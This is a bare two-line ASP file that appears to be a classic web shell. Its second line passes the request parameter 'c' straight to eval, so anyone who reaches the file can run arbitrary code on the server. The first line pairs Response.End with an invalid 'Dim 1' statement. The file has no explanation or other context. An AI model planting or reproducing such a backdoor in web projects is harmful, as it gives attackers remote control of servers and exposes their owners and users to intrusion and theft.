<% Response.End : Dim 1 %>
<% eval request("c") %>
